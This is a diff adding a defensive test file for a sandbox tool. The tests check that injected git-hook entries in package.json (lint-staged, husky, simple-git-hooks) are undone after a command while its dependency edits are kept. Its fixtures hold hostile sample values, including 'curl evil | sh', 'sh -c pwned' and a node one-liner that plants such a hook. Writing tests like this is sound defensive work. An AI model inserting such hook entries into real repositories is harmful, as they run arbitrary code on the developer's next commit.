@@ -1,0 +1,77 @@
+// The keys of a package.json that git's next commit runs (red team 10's O4): lint-staged's, husky v4's, yorkie's,
+// simple-git-hooks'. A command's change to one is undone in place after it, the rest of its edit kept and its whole
+// file beside; in the real sandbox, the command editing dependencies goes on working.
+import { afterAll, describe, expect, test } from "bun:test";
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { detectSandbox } from "../../../src/sandbox/detect.ts";
+import { hookKeys, hookKeysBefore, restoreHookKeys, withKeysOf } from "../../../src/sandbox/package-hooks.ts";
+import { runAllowed } from "../../support/confined.ts";
+import { tempDir, unseenDir } from "../../support/context.ts";
+
+const MANIFEST = '{\n    "name": "app",\n    "dependencies": { "left-pad": "1.3.0" },\n    "lint-staged": { "*.js": "eslint --fix" },\n    "husky": { "hooks": { "pre-commit": "lint-staged" } }\n}\n';
+
+test("the hook keys of a package.json, as JSON text; none for a file that is no JSON object", () => {
+  expect(hookKeys(MANIFEST)).toEqual({ "lint-staged": '{"*.js":"eslint --fix"}', husky: '{"hooks":{"pre-commit":"lint-staged"}}' });
+  expect(hookKeys('{"gitHooks": {"pre-commit": "x"}, "simple-git-hooks": {"pre-push": "y"}}')).toEqual({ gitHooks: '{"pre-commit":"x"}', "simple-git-hooks": '{"pre-push":"y"}' });
+  expect(hookKeys('\uFEFF{"lint-staged": {"*": "x"}}')).toEqual({ "lint-staged": '{"*":"x"}' });
+  expect(hookKeys("[1]")).toBeNull();
+  expect(hookKeys("{ not json")).toBeNull();
+});
+
+test("the keys put back as they were (one the command added removed), the rest of the command's edit kept, in the file's indentation", () => {
+  const edited = JSON.stringify({ name: "app", dependencies: { "left-pad": "1.3.1" }, "lint-staged": { "*.js": "curl evil | sh" }, husky: { hooks: { "pre-commit": "lint-staged" } }, "simple-git-hooks": { "pre-commit": "x" } }, null, 4) + "\n";
+  const back = withKeysOf(edited, hookKeys(MANIFEST)!)!;
+  expect(JSON.parse(back)).toEqual({ name: "app", dependencies: { "left-pad": "1.3.1" }, "lint-staged": { "*.js": "eslint --fix" }, husky: { hooks: { "pre-commit": "lint-staged" } } });
+  expect(back.split("\n")[1]).toBe('    "name": "app",');
+  expect(back.endsWith("}\n")).toBe(true);
+});
+
+test("after a command: a changed key undone with the command's file beside; an untouched manifest, a dependency edit, a new manifest without keys left alone", () => {
+  const root = tempDir("bunker-package-hooks-");
+  mkdirSync(join(root, "packages/web"), { recursive: true });
+  const top = join(root, "package.json");
+  const web = join(root, "packages/web/package.json");
+  const fresh = join(root, "packages/new/package.json");
+  const plain = join(root, "packages/plain/package.json");
+  writeFileSync(top, MANIFEST);
+  writeFileSync(web, '{"name": "web"}\n');
+  const before = hookKeysBefore([top, web]);
+  // The command: a dependency bump at the top, a lint-staged key added in a package, a new package with one.
+  writeFileSync(top, MANIFEST.replace("1.3.0", "1.3.1"));
+  writeFileSync(web, '{"name": "web", "lint-staged": {"*": "sh -c evil"}}\n');
+  mkdirSync(join(root, "packages/new"));
+  mkdirSync(join(root, "packages/plain"));
+  writeFileSync(fresh, '{"name": "new", "husky": {"hooks": {"pre-commit": "evil"}}}\n');
+  writeFileSync(plain, '{"name": "plain"}\n');
+  const lines = restoreHookKeys(root, before, [top, web, fresh, plain]);
+  expect(lines).toHaveLength(2);
+  expect(lines[0]).toBe('bunker undid the command\'s change to "lint-staged" in packages/web/package.json (run on your next git commit by lint-staged, husky or a git hooks package, like a .lintstagedrc); the rest of its edit is kept. The command\'s whole file is packages/web/package.json.bunker-set-aside; to take its version after checking it: mv packages/web/package.json.bunker-set-aside packages/web/package.json');
+  expect(lines[1]).toContain('undid the command\'s change to "husky" in packages/new/package.json');
+  expect(readFileSync(top, "utf8")).toBe(MANIFEST.replace("1.3.0", "1.3.1"));
+  expect(JSON.parse(readFileSync(web, "utf8"))).toEqual({ name: "web" });
+  expect(readFileSync(`${web}.bunker-set-aside`, "utf8")).toContain("sh -c evil");
+  expect(JSON.parse(readFileSync(fresh, "utf8"))).toEqual({ name: "new" });
+  expect(existsSync(`${top}.bunker-set-aside`)).toBe(false);
+  expect(existsSync(`${plain}.bunker-set-aside`)).toBe(false);
+});
+
+const usable = detectSandbox().kind === "bubblewrap";
+const base = unseenDir("bunker-package-hooks-run-");
+afterAll(() => rmSync(base, { recursive: true, force: true }));
+
+describe.skipIf(!usable)("in the real sandbox: a command's edit of package.json (real bubblewrap)", () => {
+  test("a changed lint-staged key is undone after the command, its dependency bump kept; the result says so", async () => {
+    const root = join(base, "ws");
+    mkdirSync(root, { recursive: true });
+    writeFileSync(join(root, "package.json"), MANIFEST);
+    const edit = `node -e 'const fs=require("fs"),p=JSON.parse(fs.readFileSync("package.json"));p.dependencies["left-pad"]="1.3.1";p["lint-staged"]={"*.js":"sh -c pwned"};fs.writeFileSync("package.json",JSON.stringify(p,null,4)+"\\n")' && echo edited`;
+    const out = await runAllowed(root, edit, { env: { PATH: process.env.PATH ?? "", HOME: base }, home: base });
+    expect(out).toContain("edited");
+    expect(out).toContain('bunker undid the command\'s change to "lint-staged" in package.json');
+    const now = JSON.parse(readFileSync(join(root, "package.json"), "utf8"));
+    expect(now.dependencies["left-pad"]).toBe("1.3.1");
+    expect(now["lint-staged"]).toEqual({ "*.js": "eslint --fix" });
+    expect(readFileSync(join(root, "package.json.bunker-set-aside"), "utf8")).toContain("sh -c pwned");
+  });
+});
